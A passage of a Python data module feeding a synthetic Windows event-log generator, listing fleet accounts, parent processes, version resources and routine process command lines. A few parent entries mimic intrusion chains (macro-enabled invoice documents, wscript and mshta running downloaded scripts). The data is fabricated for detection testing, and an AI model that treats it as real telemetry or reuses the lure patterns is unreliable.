# ruff: noqa: E501  (data: Windows command lines and paths are long)
"""What the Windows event-log generator draws from: the processes of a fleet of workstations
and servers (image, command lines, parents, account), their version resources, DLLs, files,
registry values, domains, PowerShell script blocks, services, and the attacker-like command
lines and values of its scenarios. Written for this project; placeholders are filled per event:

{U} the user's profile folder, {N} a small number, {G} an upper-case GUID, {X} eight hex
digits, {P} a process id, {H} the host's short name, {D} the domain's DNS name.
"""

from __future__ import annotations

from typing import NamedTuple


class ProcTemplate(NamedTuple):
    """A process the fleet runs: image, command lines, possible parents (base names of
    `PARENTS`), the account it runs as (system, service, user, admin) and where (ws: work
    stations, srv: servers, any)."""

    image: str
    cmds: tuple[str, ...]
    parents: tuple[str, ...]
    account: str
    weight: float
    role: str = "any"


DOMAIN = "corp.example"
NETBIOS = "CORP"
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
SECURITY_GUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
POWERSHELL_GUID = "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"
SCM_GUID = "{555908d1-a6d7-4695-8e1e-26931d2012f4}"

# User accounts of the fleet; some names are not ASCII (their profile folders too).
USER_NAMES = (
    "jsmith", "a.nguyen", "mgarcia", "kwilliams", "priya.sharma", "tchen", "lmartin",
    "dkowalski", "sjohnson", "r.okafor", "hmueller", "yuki.tanaka", "e.rossi", "bwhite",
    "José.Ramírez", "Zoë.Fischer", "Søren.Østergaard", "Łukasz.Wójcik", "François.Lefèvre",
    "Björn.Åkesson", "Renée.Dubois", "Müge.Çelik", "Ðorđe.Petrović", "Ștefan.Ionescu",
    "張偉", "o'brien",
)  # fmt: skip
ADMIN_NAMES = ("adm.jsmith", "adm.tchen", "Administrator", "adm.Zoë.Fischer")
SERVICE_ACCOUNTS = ("svc_sql", "svc_backup", "svc_iis", "svc_sccm")

WS_PREFIXES = ("WS", "LAPTOP", "DESKTOP", "PC")
SRV_NAMES = (
    "DC01", "DC02", "FS01", "SQL01", "SQL02", "WEB01", "WEB02", "EXCH01", "SCCM01", "APP01",
    "APP02", "RDS01", "RDS02", "PRINT01", "BACKUP01", "CA01",
)  # fmt: skip

# Parents by base name: (image, command line).
PARENTS: dict[str, tuple[str, str]] = {
    "services.exe": (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
    "svchost.exe": (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k DcomLaunch -p"),
    "svchost-schedule": (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    "explorer.exe": (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    "userinit.exe": (r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe"),
    "winlogon.exe": (r"C:\Windows\System32\winlogon.exe", "winlogon.exe"),
    "cmd.exe": (r"C:\Windows\System32\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" '),
    "powershell.exe": (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    ),
    "chrome.exe": (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
    ),
    "msedge.exe": (
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default',
    ),
    "ms-teams.exe": (
        r"C:\Program Files\WindowsApps\MSTeams_24152.405.2925.6762_x64__8wekyb3d8bbwe\ms-teams.exe",
        '"C:\\Program Files\\WindowsApps\\MSTeams_24152.405.2925.6762_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated',
    ),
    "SearchIndexer.exe": (r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\system32\SearchIndexer.exe /Embedding"),
    "WmiPrvSE.exe": (r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    "msiexec.exe": (r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V"),
    "TiWorker.exe": (
        r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4585_none_7e0b0a5a0f0c3f1c\TiWorker.exe",
        r"C:\Windows\winsxs\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4585_none_7e0b0a5a0f0c3f1c\TiWorker.exe -Embedding",
    ),
    "CcmExec.exe": (r"C:\Windows\CCM\CcmExec.exe", r"C:\Windows\CCM\CcmExec.exe"),
    "AgentExecutor.exe": (
        r"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe",
        '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe" -powershell',
    ),
    "MsMpEng.exe": (
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24060.7-0\MsMpEng.exe",
        '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24060.7-0\\MsMpEng.exe"',
    ),
    "Code.exe": (
        r"C:\Users\{U}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        '"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" ',
    ),
    "OUTLOOK.EXE": (
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
    ),
    "WINWORD.EXE": (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{U}\\Downloads\\Invoice_{N}.docm" /o ""',
    ),
    "EXCEL.EXE": (
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\{U}\\Downloads\\Remittance {N}.xlsm"',
    ),
    "w3wp.exe": (
        r"C:\Windows\System32\inetsrv\w3wp.exe",
        r'c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{G} -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0',
    ),
    "sqlservr.exe": (
        r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe",
        '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
    ),
    "wscript.exe": (r"C:\Windows\System32\wscript.exe", r'"C:\Windows\System32\WScript.exe" "C:\Users\{U}\Downloads\Scan_{N}.js"'),
    "mshta.exe": (r"C:\Windows\System32\mshta.exe", r'"C:\Windows\System32\mshta.exe" "C:\Users\{U}\Downloads\update.hta"'),
    "taskeng.exe": (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
}  # fmt: skip

_MS = "Microsoft® Windows® Operating System"
_MSC = "Microsoft Corporation"
_WINVER = "10.0.19041.4717 (WinBuild.160101.0800)"

# Version resources by lower-case base name: (FileVersion, Description, Product, Company,
# OriginalFileName). Images not listed have none ("-").
VERSION_INFO: dict[str, tuple[str, str, str, str, str]] = {
    "svchost.exe": (_WINVER, "Host Process for Windows Services", _MS, _MSC, "svchost.exe"),
    "conhost.exe": (_WINVER, "Console Window Host", _MS, _MSC, "CONHOST.EXE"),
    "cmd.exe": (_WINVER, "Windows Command Processor", _MS, _MSC, "Cmd.Exe"),
    "powershell.exe": (_WINVER, "Windows PowerShell", _MS, _MSC, "PowerShell.EXE"),
    "pwsh.exe": ("7.4.3.500", "pwsh", "PowerShell", _MSC, "pwsh.dll"),
    "explorer.exe": (_WINVER, "Windows Explorer", _MS, _MSC, "EXPLORER.EXE"),
    "runtimebroker.exe": (_WINVER, "Runtime Broker", _MS, _MSC, "RuntimeBroker.exe"),
    "searchprotocolhost.exe": (_WINVER, "Microsoft Windows Search Protocol Host", _MS, _MSC, "SearchProtocolHost.exe"),
    "searchfilterhost.exe": (_WINVER, "Microsoft Windows Search Filter Host", _MS, _MSC, "SearchFilterHost.exe"),
    "backgroundtaskhost.exe": (_WINVER, "Background Task Host", _MS, _MSC, "backgroundTaskHost.exe"),
    "dllhost.exe": (_WINVER, "COM Surrogate", _MS, _MSC, "dllhost.exe"),
    "taskhostw.exe": (_WINVER, "Host Process for Windows Tasks", _MS, _MSC, "taskhostw.exe"),
    "wmiprvse.exe": (_WINVER, "WMI Provider Host", _MS, _MSC, "Wmiprvse.exe"),
    "smartscreen.exe": (_WINVER, "Windows Defender SmartScreen", _MS, _MSC, "smartscreen.exe"),
    "sihost.exe": (_WINVER, "Shell Infrastructure Host", _MS, _MSC, "sihost.exe"),
    "ctfmon.exe": (_WINVER, "CTF Loader", _MS, _MSC, "CTFMON.EXE"),
    "tiworker.exe": ("10.0.19041.4585 (WinBuild.160101.0800)", "Windows Modules Installer Worker", _MS, _MSC, "TiWorker.exe"),
    "trustedinstaller.exe": (_WINVER, "Windows Modules Installer", _MS, _MSC, "TrustedInstaller.exe"),
    "mousocoreworker.exe": (_WINVER, "MoUSO Core Worker Process", _MS, _MSC, "mousocoreworker.exe"),
    "wuauclt.exe": (_WINVER, "Windows Update", _MS, _MSC, "wuauclt.exe"),
    "mpcmdrun.exe": ("4.18.24060.7 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility", _MS, _MSC, "MpCmdRun.exe"),
    "msmpeng.exe": ("4.18.24060.7 (WinBuild.160101.0800)", "Antimalware Service Executable", _MS, _MSC, "MsMpEng.exe"),
    "nissrv.exe": ("4.18.24060.7 (WinBuild.160101.0800)", "Microsoft Network Realtime Inspection Service", _MS, _MSC, "NisSrv.exe"),
    "securityhealthservice.exe": (_WINVER, "Windows Security Health Service", _MS, _MSC, "SecurityHealthService.exe"),
    "msiexec.exe": ("5.0.19041.4648 (WinBuild.160101.0800)", "Windows® installer", "Windows Installer - Unicode", _MSC, "msiexec.exe"),
    "rundll32.exe": (_WINVER, "Windows host process (Rundll32)", _MS, _MSC, "RUNDLL32.EXE"),
    "regsvr32.exe": (_WINVER, "Microsoft(C) Register Server", _MS, _MSC, "REGSVR32.EXE"),
    "mshta.exe": ("11.00.19041.4355 (WinBuild.160101.0800)", "Microsoft (R) HTML Application host", "Internet Explorer", _MSC, "MSHTA.EXE"),
    "certutil.exe": (_WINVER, "CertUtil.exe", _MS, _MSC, "CertUtil.exe"),
    "schtasks.exe": (_WINVER, "Task Scheduler Configuration Tool", _MS, _MSC, "schtasks.exe"),
    "vssadmin.exe": (_WINVER, "Command Line Interface for Microsoft® Volume Shadow Copy Service ", _MS, _MSC, "VSSADMIN.EXE"),
    "whoami.exe": (_WINVER, "whoami - displays logged on user information", _MS, _MSC, "whoami.exe"),
    "net.exe": (_WINVER, "Net Command", _MS, _MSC, "net.exe"),
    "net1.exe": (_WINVER, "Net Command", _MS, _MSC, "net1.exe"),
    "nltest.exe": (_WINVER, "Microsoft® Logon Server Test Utility", _MS, _MSC, "nltestrk.exe"),
    "wmic.exe": (_WINVER, "WMI Commandline Utility", _MS, _MSC, "wmic.exe"),
    "bitsadmin.exe": (_WINVER, "BITS administration utility", _MS, _MSC, "bitsadmin.exe"),
    "reg.exe": (_WINVER, "Registry Console Tool", _MS, _MSC, "reg.exe"),
    "sc.exe": (_WINVER, "Service Control Manager Configuration Tool", _MS, _MSC, "sc.exe"),
    "ipconfig.exe": (_WINVER, "IP Configuration Utility", _MS, _MSC, "ipconfig.exe"),
    "systeminfo.exe": (_WINVER, "Displays system information", _MS, _MSC, "sysinfo.exe"),
    "tasklist.exe": (_WINVER, "Lists the current running tasks", _MS, _MSC, "tasklist.exe"),
    "bcdedit.exe": (_WINVER, "Boot Configuration Data Editor", _MS, _MSC, "bcdedit.exe"),
    "wevtutil.exe": (_WINVER, "Eventing Command Line Utility", _MS, _MSC, "wevtutil.exe"),
    "gpupdate.exe": (_WINVER, "Microsoft® Group Policy Update Utility", _MS, _MSC, "GPUpdate.exe"),
    "notepad.exe": (_WINVER, "Notepad", _MS, _MSC, "NOTEPAD.EXE"),
    "compattelrunner.exe": (_WINVER, "Microsoft Compatibility Telemetry", _MS, _MSC, "CompatTelRunner.exe"),
    "wermgr.exe": (_WINVER, "Windows Problem Reporting", _MS, _MSC, "WerMgr"),
    "werfault.exe": (_WINVER, "Windows Problem Reporting", _MS, _MSC, "WerFault.exe"),
    "consent.exe": (_WINVER, "Consent UI for administrative applications", _MS, _MSC, "consent.exe"),
    "mmc.exe": (_WINVER, "Microsoft Management Console", _MS, _MSC, "MMC.EXE"),
    "w3wp.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "IIS Worker Process", "Internet Information Services", _MSC, "w3wp.exe"),
    "msedge.exe": ("126.0.2592.87", "Microsoft Edge", "Microsoft Edge", _MSC, "msedge.exe"),
    "msedgewebview2.exe": ("126.0.2592.87", "Microsoft Edge WebView2", "Microsoft Edge WebView2", _MSC, "msedgewebview2.exe"),
    "chrome.exe": ("126.0.6478.127", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "firefox.exe": ("127.0.2", "Firefox", "Firefox", "Mozilla Corporation", "firefox.exe"),
    "ms-teams.exe": ("24152.405.2925.6762", "Microsoft Teams", "Microsoft Teams", _MSC, "ms-teams.exe"),
    "onedrive.exe": ("24.116.0609.0004", "Microsoft OneDrive", "Microsoft OneDrive", _MSC, "OneDrive.exe"),
    "outlook.exe": ("16.0.17726.20160", "Microsoft Outlook", "Microsoft Outlook", _MSC, "Outlook.exe"),
    "winword.exe": ("16.0.17726.20160", "Microsoft Word", "Microsoft Office", _MSC, "WinWord.exe"),
    "excel.exe": ("16.0.17726.20160", "Microsoft Excel", "Microsoft Office", _MSC, "Excel.exe"),
    "googleupdate.exe": ("1.3.36.372", "Google Installer", "Google Update", "Google LLC", "GoogleUpdate.exe"),
    "microsoftedgeupdate.exe": ("1.3.187.41", "Microsoft Edge Update", "Microsoft Edge Update", _MSC, "msedgeupdate.dll"),
    "code.exe": ("1.90.2", "Visual Studio Code", "Visual Studio Code", _MSC, "electron.exe"),
    "git.exe": ("2.45.2.1", "Git for Windows", "Git", "The Git Development Community", "git.exe"),
    "python.exe": ("3.12.4", "Python", "Python", "Python Software Foundation", "python.exe"),
    "acrord32.exe": ("24.2.20857.0", "Adobe Acrobat Reader", "Adobe Acrobat Reader", "Adobe Systems Incorporated", "AcroRd32.exe"),
    "sqlservr.exe": ("2019.0150.4375.04 ((SQLServer).240517-0813)", "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", _MSC, "SQLSERVR.EXE"),
    "ccmexec.exe": ("5.00.9122.1000", "CCM Executive", "System Center Configuration Manager", _MSC, "CcmExec.exe"),
    "agentexecutor.exe": ("1.79.108.0", "AgentExecutor", "Microsoft Intune Management Extension", _MSC, "AgentExecutor.exe"),
    "procdump64.exe": ("11.0", "Sysinternals process dump utility", "Sysinternals Procdump", "Sysinternals - www.sysinternals.com", "procdump"),
    "curl.exe": ("8.7.1", "The curl executable", "The curl executable", "curl, https://curl.se/", "curl.exe"),
}  # fmt: skip

_CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
_TEAMS = r"C:\Program Files\WindowsApps\MSTeams_24152.405.2925.6762_x64__8wekyb3d8bbwe\ms-teams.exe"
_WEBVIEW = (
    r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\126.0.2592.87\msedgewebview2.exe"
)
_PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_DEFENDER = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24060.7-0"

PROCESSES: tuple[ProcTemplate, ...] = (
    ProcTemplate(r"C:\Windows\System32\svchost.exe", (
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
        r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache",
        r"C:\Windows\system32\svchost.exe -k wsappx -p -s AppXSvc",
        r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{X}",
        r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv",
        r"C:\Windows\system32\svchost.exe -k LocalService -p -s EventSystem",
    ), ("services.exe",), "system", 9.0),
    ProcTemplate(_CHROME, (
        '"' + _CHROME + '" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id={N} --launch-time-ticks=8831{N}{N} --mojo-platform-channel-handle=4{N} /prefetch:1',
        '"' + _CHROME + '" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=1{N} /prefetch:2',
        '"' + _CHROME + '" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2{N} /prefetch:3',
    ), ("chrome.exe",), "user", 9.0, "ws"),
    ProcTemplate(_CHROME, ('"' + _CHROME + '" ', '"' + _CHROME + '" --profile-directory="Profile 1"'), ("explorer.exe",), "user", 1.0, "ws"),
    ProcTemplate(_EDGE, (
        '"' + _EDGE + '" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={N} --mojo-platform-channel-handle=6{N} /prefetch:1',
        '"' + _EDGE + '" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2{N} /prefetch:3',
        '"' + _EDGE + '" --type=crashpad-handler --user-data-dir="C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data" /prefetch:4 --monitor-self-annotation=ptype=crashpad-handler --database="C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Crashpad"',
    ), ("msedge.exe",), "user", 7.0, "ws"),
    ProcTemplate(_WEBVIEW, (
        '"' + _WEBVIEW + '" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe --user-data-dir="C:\\Users\\{U}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView" --noerrdialogs --enable-features=MojoIpcz,SharedArrayBuffer',
        '"' + _WEBVIEW + '" --type=renderer --noerrdialogs --user-data-dir="C:\\Users\\{U}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView" --webview-exe-name=ms-teams.exe --renderer-client-id={N} /prefetch:1',
    ), ("ms-teams.exe",), "user", 4.0, "ws"),
    ProcTemplate(_TEAMS, ('"' + _TEAMS + '" msteams:system-initiated',), ("explorer.exe",), "user", 0.5, "ws"),
    ProcTemplate(r"C:\Windows\System32\RuntimeBroker.exe", (r"C:\Windows\System32\RuntimeBroker.exe -Embedding",), ("svchost.exe",), "user", 3.0, "ws"),
    ProcTemplate(r"C:\Windows\System32\SearchProtocolHost.exe", (
        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{N}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{N} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ',
    ), ("SearchIndexer.exe",), "system", 3.0),
    ProcTemplate(r"C:\Windows\System32\SearchFilterHost.exe", (
        '"C:\\Windows\\system32\\SearchFilterHost.exe" 0 800 804 812 8192 808 780 ',
    ), ("SearchIndexer.exe",), "system", 2.5),
    ProcTemplate(r"C:\Windows\System32\backgroundTaskHost.exe", (
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
        '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
    ), ("svchost.exe",), "user", 2.0, "ws"),
    ProcTemplate(r"C:\Windows\System32\dllhost.exe", (
        r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
        r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        r"C:\Windows\system32\DllHost.exe /Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}",
    ), ("svchost.exe",), "user", 2.5),
    ProcTemplate(r"C:\Windows\System32\taskhostw.exe", (
        "taskhostw.exe Install $(Arg0)", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        "taskhostw.exe SYSTEM", "taskhostw.exe",
    ), ("svchost-schedule",), "user", 2.0),
    ProcTemplate(r"C:\Windows\System32\conhost.exe", (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",), ("cmd.exe", "powershell.exe"), "user", 5.0),
    ProcTemplate(r"C:\Windows\System32\wbem\WmiPrvSE.exe", (
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
    ), ("svchost.exe",), "service", 2.0),
    ProcTemplate(r"C:\Windows\System32\smartscreen.exe", (r"C:\Windows\System32\smartscreen.exe -Embedding",), ("svchost.exe",), "user", 1.5, "ws"),
    ProcTemplate(r"C:\Windows\System32\sihost.exe", ("sihost.exe",), ("svchost.exe",), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Windows\System32\ctfmon.exe", ('"ctfmon.exe"',), ("svchost.exe",), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Windows\explorer.exe", (r"C:\Windows\Explorer.EXE",), ("userinit.exe",), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Windows\System32\userinit.exe", (r"C:\Windows\system32\userinit.exe",), ("winlogon.exe",), "user", 0.3, "ws"),
    ProcTemplate(r"C:\Windows\System32\mousocoreworker.exe", (r"C:\Windows\System32\mousocoreworker.exe -Embedding",), ("svchost.exe",), "system", 1.0),
    ProcTemplate(r"C:\Windows\System32\wuauclt.exe", (
        '"C:\\Windows\\system32\\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId {G} /RunHandlerComServer',
    ), ("svchost.exe",), "system", 0.6),
    ProcTemplate(r"C:\Windows\servicing\TrustedInstaller.exe", (r"C:\Windows\servicing\TrustedInstaller.exe",), ("services.exe",), "system", 0.4),
    ProcTemplate(_DEFENDER + r"\MpCmdRun.exe", (
        '"' + _DEFENDER + '\\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -DailyReboot',
        '"' + _DEFENDER + '\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
        '"' + _DEFENDER + '\\MpCmdRun.exe" -wdenable',
        '"' + _DEFENDER + '\\MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob',
    ), ("MsMpEng.exe", "svchost-schedule"), "system", 1.5),
    ProcTemplate(_DEFENDER + r"\NisSrv.exe", ('"' + _DEFENDER + '\\NisSrv.exe"',), ("services.exe",), "service", 0.2),
    ProcTemplate(r"C:\Windows\System32\SecurityHealthService.exe", (r"C:\Windows\system32\SecurityHealthService.exe",), ("services.exe",), "system", 0.2),
    ProcTemplate(r"C:\Windows\System32\msiexec.exe", (
        r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\MsiExec.exe -Embedding {G} C",
        r"C:\Windows\System32\MsiExec.exe -Embedding {G} E Global\MSI0000",
    ), ("services.exe", "msiexec.exe"), "system", 1.2),
    ProcTemplate(r"C:\Windows\System32\msiexec.exe", (
        '"C:\\Windows\\System32\\msiexec.exe" /i "C:\\Windows\\ccmcache\\{N}\\Teams_windows_x64.msi" /qn ALLUSERS=1 /norestart',
        '"C:\\Windows\\System32\\msiexec.exe" /i "C:\\Users\\{U}\\Downloads\\GoogleChromeStandaloneEnterprise64.msi" /qb',
    ), ("CcmExec.exe",), "system", 0.05),
    ProcTemplate(r"C:\Windows\CCM\CcmExec.exe", (r"C:\Windows\CCM\CcmExec.exe",), ("services.exe",), "system", 0.1),
    ProcTemplate(r"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe", (
        '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe" -powershell "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{G}_1.ps1" "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\{G}_1.output" "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\{G}_1.error" 60000 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" 0 "" False',
    ), ("services.exe",), "system", 0.1, "ws"),
    ProcTemplate(_PS, (
        '"' + _PS + '" -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{G}_1.ps1"',
        '"' + _PS + '" -NoLogo -NonInteractive -ExecutionPolicy RemoteSigned -Command "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version"',
        '"' + _PS + '" -NoProfile -Command "Get-ChildItem -Path $env:TEMP -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-14) } | Remove-Item -Force -ErrorAction SilentlyContinue"',
        '"' + _PS + '" -ExecutionPolicy Bypass -NoProfile -NonInteractive -Command "& {Get-AppxPackage -AllUsers | Select-Object Name, Version | ConvertTo-Json}"',
    ), ("AgentExecutor.exe", "CcmExec.exe", "svchost-schedule"), "system", 0.25),
    ProcTemplate(_PS, (
        '"' + _PS + '" ', '"' + _PS + '" -NoExit -Command "Set-Location C:\\Users\\{U}\\source\\repos"',
    ), ("explorer.exe",), "user", 0.6, "ws"),
    ProcTemplate(r"C:\Windows\System32\cmd.exe", (
        r'C:\Windows\system32\cmd.exe /c ""C:\Users\{U}\AppData\Local\Programs\Microsoft VS Code\bin\code.cmd" --version"',
        r'"C:\Windows\system32\cmd.exe" /c "C:\ProgramData\Scripts\map_drives.cmd"',
        r'C:\Windows\system32\cmd.exe /d /s /c "git rev-parse --abbrev-ref HEAD"',
        r'"C:\Windows\system32\cmd.exe" ',
    ), ("explorer.exe", "Code.exe", "svchost-schedule"), "user", 1.5),
    ProcTemplate(r"C:\Program Files\Git\cmd\git.exe", (
        '"C:\\Program Files\\Git\\cmd\\git.exe" fetch --all --prune', '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall',
        '"C:\\Program Files\\Git\\cmd\\git.exe" rev-parse --show-toplevel',
    ), ("Code.exe", "cmd.exe"), "user", 1.0, "ws"),
    ProcTemplate(r"C:\Users\{U}\AppData\Local\Programs\Microsoft VS Code\Code.exe", (
        '"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --dns-result-order=ipv4first --inspect-port=0 --mojo-platform-channel-handle=4{N} /prefetch:8',
    ), ("Code.exe",), "user", 1.0, "ws"),
    ProcTemplate(r"C:\Users\{U}\AppData\Local\Microsoft\OneDrive\OneDrive.exe", (
        '"C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
        '"C:\\Users\\{U}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled /background',
    ), ("explorer.exe", "svchost-schedule"), "user", 0.8, "ws"),
    ProcTemplate(r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", (
        '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
        '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /c',
    ), ("svchost-schedule",), "system", 0.5),
    ProcTemplate(r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe", (
        '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler',
        '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /c',
    ), ("svchost-schedule",), "system", 0.5),
    ProcTemplate(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", ('"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',), ("explorer.exe",), "user", 0.4, "ws"),
    ProcTemplate(r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", (
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{U}\\Documents\\Quarterly report Q{N}.docx" /o ""',
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{U}\\OneDrive - Corp\\Réunion équipe {N}.docx" /o ""',
    ), ("explorer.exe", "OUTLOOK.EXE"), "user", 0.5, "ws"),
    ProcTemplate(r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", (
